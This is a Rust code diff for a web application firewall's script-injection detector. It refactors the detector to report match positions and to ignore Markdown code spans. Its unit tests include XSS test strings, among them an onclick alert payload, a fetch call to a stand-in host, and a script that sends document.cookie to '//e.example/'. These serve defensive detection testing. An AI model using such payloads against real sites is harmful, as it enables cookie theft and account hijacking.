@@ -7,35 +7,39 @@
 mod script;
 mod tag;
 
-use super::{Strength, is_document};
+use super::{Finding, Strength, is_document};
 
 /// Tags of a value that are looked at.
 const MAX_TAGS: usize = 256;
 
 /// How sure it is that a value runs in a page.
-pub(in crate::waf) fn markup(value: &[u8]) -> Option<Strength> {
+pub(in crate::waf) fn markup(value: &[u8]) -> Option<Finding> {
     let found = judge(value)?;
     if !is_document(value) {
         return Some(found);
     }
     // People write about script, and show it; what steals is seldom shown.
-    if found == Strength::Certain && script::is_hostile(value) {
-        Some(Strength::Likely)
-    } else {
-        Some(Strength::Possible)
-    }
+    let is_hostile = found.strength == Strength::Certain && script::is_hostile(&without_code(value));
+    Some(Finding { strength: if is_hostile { Strength::Likely } else { Strength::Possible }, ..found })
 }
 
-fn judge(value: &[u8]) -> Option<Strength> {
-    let mut found = script::address(value).max(script::breakout(value)).max(tag::added_attribute(value));
+/// A text without what Markdown marks as code.
+fn without_code(text: &[u8]) -> Vec<u8> {
+    text.split(|byte| *byte == b'`').step_by(2).flatten().copied().collect()
+}
+
+fn judge(value: &[u8]) -> Option<Finding> {
+    let whole = script::address(value).max(script::breakout(value)).max(tag::added_attribute(value));
+    let mut found = Finding::at(whole, 0);
     let mut from = 0;
     for _ in 0..MAX_TAGS {
-        if found == Some(Strength::Certain) {
+        if found.is_some_and(|found| found.strength == Strength::Certain) {
             break;
         }
         let Some(at) = value.get(from..).and_then(|rest| memchr::memchr(b'<', rest)) else { break };
-        from += at + 1;
-        found = found.max(tag::tag(value.get(from..).unwrap_or_default()));
+        let tag = from + at;
+        from = tag + 1;
+        found = found.max(Finding::at(tag::tag(value.get(from..).unwrap_or_default()), tag));
     }
     found
 }
@@ -43,6 +47,10 @@ fn judge(value: &[u8]) -> Option<Strength> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    fn strength(value: &[u8]) -> Option<Strength> {
+        markup(value).map(|found| found.strength)
+    }
 
     fn check(value: &str, holds: bool) {
         assert!(holds, "{value}");
@@ -88,7 +96,7 @@ mod tests {
             "<a\x0conclick=alert(1)>",
             "\";fetch('//e.example')//",
         ] {
-            check(value, markup(value.as_bytes()) == Some(Strength::Certain));
+            check(value, strength(value.as_bytes()) == Some(Strength::Certain));
         }
     }
 
@@ -118,15 +126,15 @@ mod tests {
             "conclusion=done",
             "'quoted' - text",
         ] {
-            check(value, markup(value.as_bytes()) < Some(Strength::Likely));
+            check(value, strength(value.as_bytes()) < Some(Strength::Likely));
         }
     }
 
     #[test]
     fn pages_are_documents() {
         let page = "<html>\n<body>\n<button onclick=\"save()\">Save</button>\n<script>\nsave = () => {}\n</script>\n</body></html>";
-        assert_eq!(markup(page.as_bytes()), Some(Strength::Possible));
+        assert_eq!(strength(page.as_bytes()), Some(Strength::Possible));
         let theft = format!("{page}\n<script>new Image().src='//e.example/'+document.cookie</script>");
-        assert_eq!(markup(theft.as_bytes()), Some(Strength::Likely));
+        assert_eq!(strength(theft.as_bytes()), Some(Strength::Likely));
     }
 }
